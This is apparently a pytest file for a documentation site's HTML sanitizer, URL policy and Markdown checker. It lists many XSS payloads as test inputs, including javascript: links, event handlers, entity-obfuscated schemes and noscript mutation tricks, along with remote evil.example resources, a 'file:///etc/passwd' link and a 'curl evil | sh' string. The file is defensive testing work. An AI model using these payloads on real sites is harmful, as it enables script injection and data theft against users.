"""The HTML and URL policy: url_policy's verdicts, the build's sanitizer (hostile HTML in, safe
HTML out; the markup Markdown and Material write in, the same markup out), check's reading of
Markdown source, the snippet renderer's link policy, and a build that a hostile page reached
without passing `handbook check`."""

from __future__ import annotations

import re
from concurrent.futures import ThreadPoolExecutor
from datetime import date
from pathlib import Path

import markdown
import pytest
from sitebuild import ROOT, Build, build, copy_project

from handbook.core.html_policy import sanitize, scan_html
from handbook.core.markdown_policy import page_problems
from handbook.core.models import Snippet, Tree
from handbook.core.url_policy import link_problem, resource_problem, srcset_problem
from handbook.render.exports import fill, snippets_json, zendesk_value
from handbook.render.snippet import plain_text, variant_html, variant_problems
from handbook.render.tree import render_tree

# -- url_policy ----------------------------------------------------------------------------

REFUSED_LINKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    " javascript:alert(1)",
    "\x00\x01 javascript:alert(1)",
    "javascript:alert(1)\x1f ",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "DATA:text/html;base64,PHNjcmlwdD4=",
    "file:///etc/passwd",
    "ftp://files.example.com/",
]
ALLOWED_LINKS = [
    "https://example.com/a?b=c#d", "http://example.com", "HTTPS://EXAMPLE.COM",
    "mailto:help@example.com", "tel:+15551234567", "page.md#anchor", "../other/", "#top",
    "?q=1", "", "/absolute/path", "//example.com/x", "\\\\example.com", "javascript",
    "notes/javascript:x.md",
]


@pytest.mark.parametrize("url", REFUSED_LINKS)
def test_links_to_other_schemes_are_refused(url: str) -> None:
    assert link_problem(url)


@pytest.mark.parametrize("url", ALLOWED_LINKS)
def test_web_mail_phone_and_relative_links_are_allowed(url: str) -> None:
    assert link_problem(url) is None


@pytest.mark.parametrize("url", ["&#106;avascript:alert(1)", "&#x6A;avascript&colon;x",
                                 "java&#x09;script:x", "&#32;javascript:x", "&#106avascript:x"])
def test_markdown_source_is_judged_after_entity_decoding(url: str) -> None:
    assert link_problem(url, decode=True) == "javascript: URLs run code"


def test_the_reason_says_what_is_wrong() -> None:
    assert link_problem("javascript:x") == "javascript: URLs run code"
    assert link_problem("data:,x") == "a data: URL can carry a whole page, scripts included"
    assert link_problem("ftp://x") == "'ftp:' is not one of http:, https:, mailto: or tel:"
    assert resource_problem("https://cdn.example/x.png") == "it is on another host"
    assert resource_problem("data:image/png;base64,AA") == (
        "data: URLs are not allowed for images and media")


@pytest.mark.parametrize("url", [
    "https://evil.example/x.png", "http://evil.example/x.png", "//evil.example/x.png",
    "\\\\evil.example\\x.png", "/\\evil.example/x.png", "\\/evil.example/x.png",
    " //evil.example/x.png", "/\t/evil.example/x.png", "data:image/png;base64,AAAA",
    "javascript:alert(1)", "blob:https://evil.example/1", "http:evil.example/x.png",
])
def test_resources_on_another_host_are_refused(url: str) -> None:
    assert resource_problem(url)


@pytest.mark.parametrize("url", ["img/x.png", "../assets/x.png", "/assets/x.png", "x.png?v=2",
                                 "#frag", "", "dir/a:b.png"])
def test_relative_resources_are_allowed(url: str) -> None:
    assert resource_problem(url) is None


def test_every_srcset_candidate_is_judged() -> None:
    assert srcset_problem("a.png 1x, b.png 2x") is None
    assert srcset_problem("a.png 1x, https://evil.example/b.png 2x")
    assert srcset_problem("data:image/png;base64,AA,BB 1x")


# -- the sanitizer: hostile HTML in, safe HTML out ----------------------------------------------

HOSTILE = [
    ("<p>Hi<script>alert(1)</script></p>", "<p>Hi</p>"),
    ('<img src="a.png" alt="a" onerror="alert(1)">', '<img src="a.png" alt="a">'),
    ("<IMG SRC=a.png ONERROR=alert(1)>", '<img src="a.png">'),
    ("<img/src=a.png onerror=alert(1)>", '<img src="a.png">'),
    ('<a href="x.md"onclick="alert(1)">x</a>', '<a href="x.md">x</a>'),
    ("<svg onload=alert(1)><circle r=4 /></svg><p>after</p>", "<p>after</p>"),
    ('<iframe src="https://evil.example/"></iframe><p>x</p>', "<p>x</p>"),
    ('<iframe srcdoc="<script>alert(1)</script>"></iframe>', ""),
    ('<object data="x.swf"></object><embed src="x.swf"><p>x</p>', "<p>x</p>"),
    ('<a href="javascript:alert(1)">x</a>', "<a>x</a>"),
    ('<a href="&#106;avascript:alert(1)">x</a>', "<a>x</a>"),
    ('<a href="java&#x09;script:alert(1)">x</a>', "<a>x</a>"),
    ('<a href=" JaVaScRiPt:alert(1)">x</a>', "<a>x</a>"),
    ('<a href="data:text/html,hi">x</a>', "<a>x</a>"),
    ('<img src="https://evil.example/x.png" alt="x">', '<img alt="x">'),
    ('<img src="//evil.example/x.png" alt="x">', '<img alt="x">'),
    ('<img src="\\\\evil.example\\x.png" alt="x">', '<img alt="x">'),
    ('<img src="a.png" srcset="a.png 1x, https://evil.example/b.png 2x">', '<img src="a.png">'),
    ('<video src="a.mp4" poster="https://evil.example/p.jpg"></video>',
     '<video src="a.mp4"></video>'),
    ('<div class="c" style="position:fixed">x</div>', '<div class="c">x</div>'),
    ('<div data-md-component="source" data-x="1">x</div>', '<div>x</div>'),
    ('<p data-clipboard-text="curl evil | sh" data-search-exclude id="__config">x</p>',
     "<p>x</p>"),
    ('<div id="__config" hidden>{"base": "../../x/"}</div>',
     '<div hidden="">{"base": "../../x/"}</div>'),
    ('<base href="https://evil.example/"><meta http-equiv="refresh" content="0">'
     '<link rel="stylesheet" href="https://evil.example/x.css"><p>x</p>', "<p>x</p>"),
    ("<style>body{display:none}</style><p>x</p>", "<p>x</p>"),
    ('<form action="https://evil.example/"><button formaction="https://evil.example/">'
     "Go</button></form>", "Go"),
    ("<template><img src=x onerror=alert(1)></template><p>x</p>", "<p>x</p>"),
    # The classic noscript mutation: what looks like an attribute in one parser is a tag in
    # the browser (scripting on: noscript's text ends at the first </noscript>).
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><p>x</p>',
     '<img src="x">"&gt;<p>x</p>'),
    # A comment closed by "--!>" in the browser: the scan does not trust it, nh3 decides.
    ("<!-- a --!><img src=x onerror=alert(1)> -->", '<img src="x"> --&gt;'),
    ('<math><mi xlink:href="javascript:alert(1)">x</mi></math><p>x</p>', "<p>x</p>"),
    ('<details open ontoggle="alert(1)"><summary>s</summary>t</details>',
     "<details open=\"\"><summary>s</summary>t</details>"),
    ('<a href="https://example.com/">kept as written, no rel</a><script></script>',
     '<a href="https://example.com/">kept as written, no rel</a>'),
    ('<input type="password" name="pw"><input type="checkbox" checked>',
     '<input name="pw"><input type="checkbox" checked="">'),
    ("<custom-element onclick=alert(1)>text</custom-element>", "text"),
]


@pytest.mark.parametrize(("hostile", "safe"), HOSTILE, ids=[h for h, _ in HOSTILE])
def test_the_sanitizer_removes_what_the_policy_refuses(hostile: str, safe: str) -> None:
    out, removed = sanitize(hostile)
    assert out == safe
    assert removed, "everything removed is reported"
    assert not re.search(r"<script|\son\w+=|javascript:|evil\.example", out, re.I), out


def test_what_was_removed_is_said_in_words() -> None:
    _, removed = sanitize('<p onclick="x">a</p><script>b</script><img src="https://e.x/i.png">')
    assert [v.message for v in removed] == [
        "attribute 'onclick' on <p> is not allowed: event handlers run code",
        "HTML tag <script> is not allowed",
        "image 'https://e.x/i.png' is not allowed: it is on another host",
    ]


@pytest.mark.parametrize("html", [
    '<p title="</p><script>">t</p>',  # a quoted '>' does not end the tag
    "<p>a &lt;script&gt; as text</p>",
    "<pre><code>&lt;img src=x onerror=alert(1)&gt;</code></pre>",
    '<a href="https://example.com/?a=1&amp;b=2" title="t">x</a>',
    '<a href="mailto:help@example.com">mail</a> <a href="tel:+1555">call</a>',
    '<img src="../assets/x.png" alt="x" width="20" loading="lazy">',
    "<!-- a comment -->",
    '<table><tr><th style="text-align: center;">a</th></tr></table>',
])
def test_allowed_html_is_returned_as_is(html: str) -> None:
    assert sanitize(html) == (html, [])


# -- the markup Markdown, pymdown-extensions and Material write passes unchanged ------------

MATERIAL_MARKDOWN = """\
# A page

Text with *emphasis*, **strong**, `code`, `#!python print(1)`, ==marked==, ++ctrl+alt+del++,
a [link](other.md#part "Title"), <https://example.com/> and <help@example.com>, an HTML
abbreviation and a footnote[^1].

*[HTML]: Hyper Text Markup Language

![A chart](assets/chart.png){ width="300" loading=lazy }

!!! note "Heads up"
    An admonition.

???+ warning "Details"
    Collapsible.

=== "Email"
    The email text.

=== "Chat"
    The chat text.

- [x] done
- [ ] to do

| left | centre | right |
| :--- | :----: | ----: |
| a    | b      | c     |

Term
:   Definition.

```python linenums="1" title="example.py" hl_lines="2"
def f(x):
    return "<b>" + x
```

<details class="tip" markdown>
<summary>Raw HTML</summary>

Inside **details**, with <kbd>Enter</kbd>, H<sub>2</sub>O, x<sup>2</sup> and <mark>m</mark>.
</details>

<div class="grid" markdown>
<span class="badge" title="t">span</span>
</div>

Paragraph with attributes.
{ #custom-id .lead title="x" }

[^1]: The footnote.
"""


def _site_markdown() -> markdown.Markdown:
    """Markdown with the extensions and options of mkdocs.yml (and footnotes), read as
    `handbook check` reads them."""
    from handbook.adapter.mkdocs_yml import read_site_config

    names, options = read_site_config(ROOT).markdown
    return markdown.Markdown(extensions=["footnotes", *names], extension_configs=options)


@pytest.fixture(scope="module")
def material_html() -> str:
    return _site_markdown().convert(MATERIAL_MARKDOWN)


def test_markdown_and_materials_markup_is_unchanged(material_html: str) -> None:
    for marker in ('class="headerlink"', 'class="admonition note"', '<details class="warning"',
                   'class="tabbed-set tabbed-alternate"', 'type="radio"', 'type="checkbox"',
                   'class="task-list-item"', 'style="text-align: center;"', "<abbr title=",
                   'class="footnote"', 'class="highlight"', 'id="__codelineno-0-1"',
                   "<kbd", "<mark>", 'id="custom-id"', "<dl>"):
        assert marker in material_html, marker
    assert sanitize(material_html) == (material_html, [])
    assert page_problems(MATERIAL_MARKDOWN) == []


def test_nh3_keeps_materials_markup_when_it_has_work_to_do(material_html: str) -> None:
    """When a page needs cleaning, nh3 rewrites all of it: everything Material needs stays."""
    out, removed = sanitize(material_html + '<p onclick="alert(1)">x</p>')
    assert [v.message for v in removed] == [
        "attribute 'onclick' on <p> is not allowed: event handlers run code"]
    assert "onclick" not in out and "<p>x</p>" in out
    for kept in re.findall(r'(?:class|id|for|name|type|title|href|src|data-[\w-]+|style)='
                           r'"[^"&]*"', material_html):
        assert kept in out, kept
    assert " rel=" not in out


def test_the_handbooks_block_placeholders_survive_cleaning() -> None:
    placeholder = '<div data-hb-stash="0a1b2c3d4e5f-0"></div>'
    html = f"<p>Before</p>\n{placeholder}\n<script>alert(1)</script><p>{placeholder}</p>"
    out, _ = sanitize(html)
    assert out.count(placeholder) == 2


# -- the tokenizer reads tags as a browser does ------------------------------------------------

@pytest.mark.parametrize(("html", "messages"), [
    ("<svg/onload=alert(1)>", ["HTML tag <svg> is not allowed"]),
    ("<img\nsrc=x\nonerror=alert(1)>",
     ["attribute 'onerror' on <img> is not allowed: event handlers run code"]),
    ("<a href=javascript:alert(1)>x</a>",
     ["link to 'javascript:alert(1)' is not allowed: javascript: URLs run code"]),
    ("<a title='x' href = 'javascript:1'>", [
        "link to 'javascript:1' is not allowed: javascript: URLs run code"]),
    ('<p title="unclosed>', ["attribute 'title' on <p> has an unclosed quote"]),
    ("<p", ["<p> tag is not closed with '>'"]),
    ("<!DOCTYPE html><?php x ?>", ["markup '<!DOCTYPE html>' is not allowed",
                                   "markup '<?php x ?>' is not allowed"]),
    ("<script>'<img src=x onerror=alert(1)>'</script><p>x</p>",
     ["HTML tag <script> is not allowed"]),  # a script's text is text, reported once
    ("</p onclick=alert(1)>", []),  # attributes of an end tag mean nothing
    ("<img/src=a.png/onerror=alert(1)>", []),  # one attribute: src="a.png/onerror=alert(1)"
    ("a < b and a<3", []),
])
def test_the_scan_reads_tags_like_a_browser(html: str, messages: list[str]) -> None:
    assert [v.message for v in scan_html(html)] == messages


def test_what_the_scan_passes_html5ever_reads_the_same_way() -> None:
    """Differential test against nh3's parser (html5ever): for tag soup the scan finds
    nothing in, nh3 with the policy's allow-lists removes exactly what a cleaner that allows
    scripts, handlers and any URL removes, i.e. nothing the policy refuses was hidden from
    the scan. (Breaking the scan, e.g. ignoring onerror, makes this fail at once.)"""
    import random

    import nh3

    from handbook.core.html_policy import GLOBAL_ATTRIBUTES, TAG_ATTRIBUTES, TAGS, _nh3

    refused = {"script", "style", "svg", "iframe", "textarea", "title", "noscript", "xmp",
               "math", "template", "object", "select", "custom-x"}
    lenient = nh3.Cleaner(
        tags=set(TAGS) | refused, clean_content_tags=set(), link_rel=None,
        attributes={"*": set(GLOBAL_ATTRIBUTES).union(*TAG_ATTRIBUTES.values(),
                                                       {"onerror", "onclick", "style"})},
        generic_attribute_prefixes={"data-", "aria-"},
        url_schemes={"http", "https", "mailto", "tel", "javascript", "data"})
    pieces = ["<", ">", "/", '"', "'", "=", " ", "\t", "\n", "<!--", "-->", "--!>", "<!", "<?",
              "</", "a", "p", "img", "script", "svg", "onerror", "src", "href", "x",
              "javascript:", "https://e.x/", "&#106;", "&quot;", "&", "`", "title", "class",
              "noscript", "textarea", "style", "data-md-x", ":", "\x00", "\x0c", "IMG",
              "ONERROR", "<p>", "</p>", '<a href="', "<img src=", "alert(1)"]
    rng = random.Random(11)
    clean = 0
    for _ in range(20_000):
        soup = "".join(rng.choice(pieces) for _ in range(rng.randint(1, 14)))
        if scan_html(soup):
            continue
        clean += 1
        assert _nh3().clean(soup) == lenient.clean(soup), repr(soup)
    assert clean > 5_000


# -- check reads Markdown source outside code ------------------------------------------------

def _problems(body: str) -> list[str]:
    return [f"{line}:{col}: {message}" for line, col, message, _hint in page_problems(body)]


def test_code_is_never_a_violation() -> None:
    body = ("Inline `<script>` and `[x](javascript:1)`.\n\n"
            "```html\n<script>alert(1)</script>\n![x](https://evil.example/x.png)\n```\n\n"
            "~~~\n<iframe></iframe>\n~~~\n\n"
            "    <script>an indented code block</script>\n\n"
            "Escaped \\<script> is text.\n")
    assert _problems(body) == []


def test_indented_text_in_a_list_or_admonition_is_not_code() -> None:
    body = ("- item\n\n    <b onclick=\"x\">more of the item</b>\n\n"
            "!!! note\n\n    <i onmouseover=\"x\">in the admonition</i>\n")
    assert _problems(body) == [
        "3:8: attribute 'onclick' on <b> is not allowed: event handlers run code",
        "7:8: attribute 'onmouseover' on <i> is not allowed: event handlers run code",
    ]


def test_link_and_image_targets_in_every_markdown_form() -> None:
    body = ("[a](javascript:alert(1)) [b]( <javascript:alert(2)> \"t\") [c](java\\script:x)\n"
            "![d](https://evil.example/d.png) [![e](e.png)](https://example.com/)\n"
            "[f][ref] ![g][img] <javascript:alert(3)> <https://example.com/>\n\n"
            "[ref]: data:text/html,x\n[img]: //evil.example/g.png\n")
    assert _problems(body) == [
        "1:5: link to 'javascript:alert(1)' is not allowed: javascript: URLs run code",
        "1:32: link to 'javascript:alert(2)' is not allowed: javascript: URLs run code",
        "2:6: image 'https://evil.example/d.png' is not allowed: it is on another host",
        "3:10: image '//evil.example/g.png' is not allowed: it is on another host",
        "3:21: link to 'javascript:alert(3)' is not allowed: javascript: URLs run code",
        "5:8: link to 'data:text/html,x' is not allowed: a data: URL can carry a whole page, "
        "scripts included",
    ]


def test_attribute_lists_where_markdown_reads_them() -> None:
    body = ("## Heading { onclick=\"a\" }\n\n"
            "Paragraph\n{: style=\"color:red\" .ok #ok data-ok=1 }\n\n"
            "[x](y.md){ href=\"javascript:1\" target=_blank } *e*{ onmouseover=b }\n\n"
            "| a { onclick=c } |\n|---|\n\n"
            "Prose with {braces} and {{ jinja }} and {% tags %} is left alone.\n")
    assert _problems(body) == [
        "1:14: attribute 'onclick' in an attribute list is not allowed: event handlers run "
        "code",
        "4:4: attribute 'style' in an attribute list is not allowed",
        "4:30: attribute 'data-ok' in an attribute list is not allowed: Material's and the "
        "handbook's scripts act on data-* attributes",
        "6:12: link to 'javascript:1' is not allowed: javascript: URLs run code",
        "6:53: attribute 'onmouseover' in an attribute list is not allowed: event handlers "
        "run code",
        "8:7: attribute 'onclick' in an attribute list is not allowed: event handlers run code",
    ]


def test_check_reports_the_line_and_column_in_the_file() -> None:
    (line, col, _message, hint), = page_problems("x\n\nsee <img src=a.png onerror=x>\n", 9)
    assert (line, col) == (11, 20)
    assert hint == "remove it: pages can't run scripts"


# -- snippets: links only as url_policy allows, no images -----------------------------------------

def make_snippet(**variants: str) -> Snippet:
    return Snippet.model_validate({
        "id": "s", "title": "S", "owner": "@a", "reviewed": date(2026, 1, 1),
        "review_every": "90d",
        "placeholders": {"first_name": {"label": "First name", "fallback": "there"}},
        "variants": variants,
    })


SNIPPET_LINKS = [
    ("[x](javascript:alert(1))", "<p>x</p>"),
    ("[x](JaVaScRiPt:alert(1))", "<p>x</p>"),
    ("[x](&#106;avascript:alert(1))", "<p>x</p>"),
    ("[x](<javascript:alert(1)>)", "<p>x</p>"),
    ("[x](data:text/html,hi)", "<p>x</p>"),
    ("[x][r]\n\n[r]: javascript:alert(1)", "<p>x</p>"),
    ("[x][r]\n\n[r]: vbscript:msgbox(1)", "<p>x</p>"),
    ("![pixel](https://tracker.example/p.gif) after", "<p>pixel after</p>"),
    ("![logo](logo.png)", "<p>logo</p>"),
    ("[**bold** link](javascript:1) tail", "<p><strong>bold</strong> link tail</p>"),
    ("[![logo](logo.png)](javascript:1)", "<p>logo</p>"),
    ("[ok](https://example.com/) [mail](mailto:a@b.c) [call](tel:+1)",
     '<p><a href="https://example.com/">ok</a> <a href="mailto:a@b.c">mail</a> '
     '<a href="tel:+1">call</a></p>'),
]


@pytest.mark.parametrize(("text", "html"), SNIPPET_LINKS, ids=[t for t, _ in SNIPPET_LINKS])
def test_snippet_links_and_images_follow_the_policy(text: str, html: str) -> None:
    assert variant_html(make_snippet(email=text), "email") == html
    refused = variant_problems(text)
    assert bool(refused) == ("href" not in html), refused
    for source in (plain_text(text), fill(text, make_snippet(email=text), zendesk_value)):
        assert not re.search(r"javascript|vbscript|data:|tracker|\.png|\.gif", source, re.I)


def test_snippet_problems_name_the_offending_text() -> None:
    text = "Hi [[first_name]],\n\n[reset](javascript:alert(1)) and ![p](https://t.example/p)\n"
    assert variant_problems(text) == [
        (28, "links to 'javascript:alert(1)', which is not allowed: javascript: URLs run code",
         "link to an http(s) address, mailto: or tel:"),
        (58, "holds an image ('https://t.example/p'): it is on another host",
         "remove it; to point at a file, link to it: [text](https://…)"),
    ]


def test_snippets_without_a_doubtful_target_are_not_rendered_by_check(monkeypatch) -> None:
    import handbook.render.snippet as rs

    monkeypatch.setattr(rs, "_render", lambda source: pytest.fail("rendered"))
    assert variant_problems("See [our guide](https://example.com/guide) or "
                            "[write to us](mailto:help@example.com).") == []


def test_exports_carry_no_refused_link() -> None:
    from types import SimpleNamespace

    snippet = make_snippet(email="[x](javascript:alert(1)) [y][r] ![i](https://t.example/p.gif)"
                                 "\n\n[r]: data:text/html,x\n")
    book = SimpleNamespace(snippets={"s": SimpleNamespace(model=snippet)})
    exported = str(snippets_json(book, "/", ""))
    assert not re.search(r"javascript|data:|t\.example", exported), exported


def test_tree_fields_are_text_never_links_or_markup() -> None:
    evil = '[x](javascript:alert(1)) <img src=x onerror=alert(1)> <https://evil.example/>'
    tree = Tree.model_validate({
        "id": "t", "title": evil, "owner": "@a", "reviewed": date(2026, 1, 1),
        "review_every": "90d", "start": "q",
        "nodes": {"q": {"question": evil, "help": evil,
                        "answers": [{"label": evil, "next": "o"}, {"label": "b", "next": "o"}]},
                  "o": {"outcome": evil, "instruction": evil}},
    })
    html = render_tree(tree, playbook_link=lambda ref: None, snippet_html=lambda sid: "")
    assert "<img" not in html and "javascript:" in html  # shown, as text
    assert not re.search(r'href="(?!#t--)', html), "the only links are to the tree's own steps"
    # The handbook's own blocks go in after the sanitizer (their data-* drive handbook.js);
    # all it would object to in them is those attributes.
    assert {v.message.split(" on ")[0] for v in sanitize(html)[1]} <= {
        f"attribute 'data-{name}'" for name in ("tree", "start", "node", "next")}


# -- the build: a page that got past check is cleaned, and a strict build fails -----------------

HOSTILE_HOOK = '''
"""Adds hostile content to one page after `handbook check` passed (a stand-in for whatever
might one day slip past check)."""

HOSTILE = """

<script>alert("script")</script>
<img src="pixel.png" onerror="alert('onerror')">
<svg onload="alert('svg')"><circle r="4"/></svg>
<iframe src="https://evil.example/frame"></iframe>
<a href="&#106;avascript:alert('href')">entity link</a>
[markdown link](javascript:alert('md'))
![remote](https://evil.example/remote.png)

Paragraph with a handler.
{: onclick="alert('attr')" }
"""


def on_page_markdown(markdown, page, config, files):
    if page.file.src_uri == "playbooks/heard-service-recovery.md":
        return markdown + HOSTILE
    return markdown
'''


@pytest.fixture(scope="module")
def hostile_builds(tmp_path_factory: pytest.TempPathFactory) -> tuple[Build, Build]:
    def prepare() -> Path:
        project = copy_project(tmp_path_factory.mktemp("hostile") / "project",
                               {"hostile_hook.py": HOSTILE_HOOK})
        config = project / "mkdocs.yml"
        text = config.read_text(encoding="utf-8").replace("\nstrict: true\n", "\nstrict: false\n")
        config.write_text(text + "\nhooks:\n  - hostile_hook.py\n", encoding="utf-8")
        return project

    # The folders are made before the threads start: tmp_path_factory makes its base folder on
    # first use, and two threads doing that at once collide (FileExistsError under xdist,
    # where this module may be a worker's first to ask for one).
    projects = [prepare(), prepare()]
    with ThreadPoolExecutor(max_workers=2) as pool:
        lax, strict = pool.map(lambda p, s: build(p, strict=s), projects, (False, True))
    return lax, strict


def test_a_page_that_slipped_past_check_is_cleaned(hostile_builds: tuple[Build, Build]) -> None:
    lax, _ = hostile_builds
    assert lax.returncode == 0, lax.output
    page = lax.html("playbooks/heard-service-recovery/index.html")
    article = page[page.index("<article"):page.index("</article>")]
    assert "<script" not in article and "<svg onload" not in article
    assert "<iframe" not in article and "evil.example" not in page
    assert not re.search(r"\son[a-z]+=", article), "no event handler attribute"
    assert "javascript:" not in article  # (the theme's own search button has one)
    assert "entity link" in article and "markdown link" in article  # the text stays
    # The handbook's own blocks went in after cleaning, untouched.
    assert 'class="hb-snippet"' in article and 'data-placeholders=' in article
    warnings = [line for line in lax.output.splitlines() if "WARNING" in line]
    assert any("playbooks/heard-service-recovery.md: HTML tag <script> is not allowed; the "
               "build removed it from the page" in line for line in warnings), lax.output
    assert any("attribute 'onerror' on <img>" in line for line in warnings), lax.output


def test_a_strict_build_fails_on_what_the_sanitizer_removed(
        hostile_builds: tuple[Build, Build]) -> None:
    _, strict = hostile_builds
    assert strict.returncode != 0, strict.output
    assert "playbooks/heard-service-recovery.md: HTML tag <script> is not allowed" in (
        strict.output)
    assert "Traceback" not in strict.output
    assert not (strict.site / "index.html").exists()


def test_the_real_site_needs_no_cleaning(real_site: Build) -> None:
    """The shipped content holds nothing the sanitizer would remove (a strict build would
    have failed on its warning), so its pages are exactly what Markdown and Material write."""
    assert real_site.returncode == 0
    assert "the build removed it" not in real_site.output


def test_inside_tags_reads_attribute_values_as_a_browser_does() -> None:
    from handbook.core.html_policy import inside_tags

    text = ("a <div title='x>\nCALL1\n'>hello</div> CALL2 <!-- CALL3 --> <b\nclass=\"c\"\n"
            "CALL4>bold</b> <p>CALL5</p> `<span title='` CALL6")
    positions = [text.index(f"CALL{i}") for i in range(1, 7)]
    inside = inside_tags(text, positions)
    assert [i + 1 for i, p in enumerate(positions) if p in inside] == [1, 3, 4, 6]
    code = text.index("`<span")
    assert inside_tags(text, positions, skip=lambda pos: pos == code + 1) == {
        positions[0], positions[2], positions[3]}


def test_link_scan_work_grows_linearly_with_the_page(monkeypatch) -> None:
    """A page of thousands of '](' or '[a](' took minutes (each bracket looked back over the
    whole paragraph, each target read to its end). Counted in steps, not timed."""
    import handbook.core.markdown_policy as mp

    steps = {"n": 0}
    real_escaped = mp._escaped

    def counted(body: str, pos: int) -> bool:
        steps["n"] += 1
        return real_escaped(body, pos)

    monkeypatch.setattr(mp, "_escaped", counted)
    for unit in ("](", "[a](x", "[a]("):
        work = []
        for size in (2000, 4000):
            steps["n"] = 0
            body = unit * size
            mp.page_problems(body)
            mp.link_targets(body + " ")  # a new string: no remembered answer
            work.append(steps["n"])
        assert work[1] <= 2.2 * work[0], (unit, work)
